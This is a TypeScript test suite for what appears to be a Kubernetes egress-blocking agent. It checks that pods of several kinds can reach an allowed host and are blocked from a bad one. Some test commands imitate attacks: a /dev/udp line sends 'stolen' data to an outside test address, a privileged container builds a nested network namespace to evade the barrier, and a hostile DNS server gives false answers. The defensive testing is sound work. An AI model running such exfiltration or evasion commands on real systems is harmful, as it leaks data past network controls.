/** Pods of many kinds: each reaches everything where no binding governs it, and what is allowed where one does. */
import assert from 'node:assert/strict';
import { test } from 'node:test';
import { imageTag } from '../cluster/images/images.ts';
import { bad, checkout, good, setScene, skip } from './scene.ts';

const reach = 'node /checkout/test/agent/fixtures/reach.ts';
const places = (...hosts: string[]): string => hosts.map((host) => `${host} 8000`).join(' ');
const ask = (host: string, path: string): string => `wget -qO- http://${host}:8000/${path}`;

test('pods', { skip, concurrency: 4 }, async (t) => {
  const scene = await setScene(t);
  const { cluster, internet, agent, both, asked } = scene;
  const [debian, musl] = await Promise.all([cluster.image('debian'), cluster.image('musl')]);

  t.test('glibc: names and addresses, over IPv4 and as IPv4 in IPv6', async () => {
    const mapped = (address: string): string => `::ffff:${address}`;
    const hosts = [good.name, bad.name, bad.address, mapped(good.address), mapped(bad.address)];
    const command = ['sh', '-c', `${reach} ${places(...hosts)}`];
    const { free, held } = await both({ ...checkout, image: debian, command });
    assert.equal(free.log, hosts.map((host) => `${host}: connected\n`).join(''));
    assert.deepEqual(held.log.trim().split('\n'), [
      `${good.name}: connected`,
      `${bad.name}: ENOTFOUND`,
      `${bad.address}: EPERM`,
      `${mapped(good.address)}: connected`,
      `${mapped(bad.address)}: EPERM`,
    ]);
    // The kernel greets its neighbours over IPv6 in nobody's name.
    const by = agent.rows(held.name).filter(({ pid }) => pid !== null);
    const to = by.filter(({ action }) => action === 'block');
    assert.ok(by.every(({ container }) => container === 'main'));
    assert.ok(to.some(({ domain }) => domain === bad.name));
    assert.ok(to.some(({ ip }) => ip === bad.address));
    assert.ok(to.every(({ ip }) => ip === null || ip === bad.address));
  });

  t.test('musl: its resolver finds the allowed name, and no other', async () => {
    const seen = asked();
    const go = `resolve ${good.name} ${bad.name}; ${ask(good.name, 'musl-$0')}; ${ask(bad.address, 'bad-$0')}`;
    const { free, held } = await both({ image: musl, command: ['sh', '-c', `${go}; true`, 'x'] });
    const found = `${good.name} ${good.address}\n`;
    assert.equal(free.log, `${found}${bad.name} ${bad.address}\nok\nok\n`);
    assert.match(held.log, new RegExp(`^${good.name} ${good.address}$`, 'm'));
    assert.match(held.log, new RegExp(`^${bad.name} ! `, 'm'));
    // What is said on standard error comes by a way of its own: the order is nobody's.
    assert.match(held.log, /^ok$/m);
    assert.match(held.log, /Operation not permitted$/m);
    const paths = seen().filter((path) => /-x$/.test(path));
    assert.deepEqual(paths, ['/bad-x', '/musl-x', '/musl-x']);
  });

  t.test('a pod that names a hostile DNS server of its own is answered by ours', async () => {
    const hostile = '198.51.100.53';
    const lies = await internet.dnsmasq([{ name: good.name, address: bad.address }], hostile);
    const spec = { dnsPolicy: 'None', dnsConfig: { nameservers: [hostile] } };
    const command = ['resolve', good.name];
    const { free, held } = await both({ image: musl, command, spec });
    assert.equal(free.log, `${good.name} ${bad.address}\n`);
    assert.equal(held.log, `${good.name} ${good.address}\n`);
    assert.ok(
      lies.queries().every(({ from }) => from !== held.ip),
      JSON.stringify(lies.queries()),
    );
    assert.ok(lies.queries().length > 0);
  });

  t.test('init containers and services are held as the build is', async () => {
    const seen = asked();
    const container = (name: string) => ({
      name,
      image: imageTag('busybox'),
      imagePullPolicy: 'Never',
      command: ['sh', '-c', `${ask(bad.address, `$HOSTNAME/${name}`)}; true`],
    });
    const command = container('main').command;
    const main = { name: 'main', image: imageTag('busybox'), imagePullPolicy: 'Never', command };
    const { free, held } = await both({
      command,
      init: [container('init')],
      spec: { containers: [main, container('service')] },
    });
    assert.match(held.log, /Operation not permitted/);
    assert.match(free.log, /^ok$/m);
    const paths = ['init', 'main', 'service'].map((name) => `/${free.name}/${name}`);
    assert.deepEqual(
      seen().filter((path) => /\/(init|main|service)$/.test(path)),
      paths,
    );
    const rows = agent.rows(held.name).filter(({ ip }) => ip === bad.address);
    assert.equal(new Set(rows.map(({ pid }) => pid)).size, 3);
    // Each has long gone when somebody looks.
    const containers = rows.map(({ container }) => container).sort();
    assert.deepEqual(containers, ['init', 'main', 'service']);
  });

  t.test('a pod in the node’s network is held, and its neighbours there are not', async () => {
    const seen = asked();
    const script = `${ask(good.name, '$0-host')}; ${ask(bad.address, '$0-host')}; true`;
    const spec = { hostNetwork: true };
    const before = cluster.node.run('nft', ['list', 'tables']).stdout;
    const { free, held } = await both({ command: ['sh', '-c', script, 'pod'], spec });
    assert.equal(free.log, 'ok\nok\n');
    assert.match(held.log, /^ok$/m);
    assert.match(held.log, /Operation not permitted$/m);
    assert.equal(seen().filter((path) => path === '/pod-host').length, 3);
    assert.equal(cluster.node.run('nft', ['list', 'tables']).stdout, before);
    assert.equal(agent.rows(held.name).find(({ ip }) => ip === bad.address)?.action, 'block');
  });

  t.test('a container in the pod, as a container engine makes one, is held', async () => {
    const address = '198.51.100.8';
    internet.addAddress(address);
    const nest = `
      ip link add br0 type bridge && ip addr add 172.31.0.1/24 dev br0 && ip link set br0 up
      unshare --net sleep 60 & inner=$!
      for i in $(seq 200); do [ /proc/$inner/ns/net -ef /proc/self/ns/net ] || break; sleep 0.1; done
      ip link add outer type veth peer name inner netns $inner && ip link set outer master br0 up
      in="nsenter --net --target $inner"
      $in ip addr add 172.31.0.2/24 dev inner; $in ip link set inner up
      $in ip route add default via 172.31.0.1
      echo 1 > /proc/sys/net/ipv4/ip_forward
      $in bash -c 'echo stolen > /dev/udp/${address}/$0; echo sent' "$0"
      $in dig +short +time=2 +tries=2 @203.0.113.99 ${good.name}
      $in timeout 2 bash -c ': > /dev/tcp/${good.address}/8001'
      kill $inner`;
    const command = ['bash', '-c', nest, '9'];
    const container = { securityContext: { privileged: true } };
    const before = internet.packetsTo(address, 9);
    const { free, held } = await both({ image: debian, command, container });
    assert.match(free.log, /^sent$/m);
    assert.match(free.log, /^;; no servers could be reached$/m);
    assert.equal(internet.packetsTo(address, 9), before + 1, 'the free one’s, and no other');
    assert.match(held.log, /^sent$/m);
    assert.match(held.log, new RegExp(`/${address}/9: Operation not permitted$`, 'm'));
    assert.match(held.log, new RegExp(`^${good.address.replaceAll('.', '\\.')}$`, 'm'));
    assert.match(held.log, /8001: Operation not permitted$/m);
  });

  t.test('a pod without the barrier is held from the moment that the agent attaches', async () => {
    const script = `for i in $(seq 100); do ${ask(bad.address, 'late')} || break; sleep 0.1; done
      for i in 1 2 3; do ${ask(bad.address, 'later')}; done; true`;
    const seen = asked();
    const pod = await cluster.runPod(scene.held, { command: ['sh', '-c', script] });
    // One that was on its way when the agent came ends as it may: the server gets no request.
    const said = pod.log.split('\n').filter((line) => line.startsWith('wget: '));
    assert.equal(said.length, 4, pod.log);
    assert.match(said[0] ?? '', /Operation not permitted$|server returned error|getting response/);
    assert.match(said.slice(1).join('\n'), /^(.*Operation not permitted(\n|$)){3}$/);
    assert.ok(!seen().includes('/later'));
  });
});
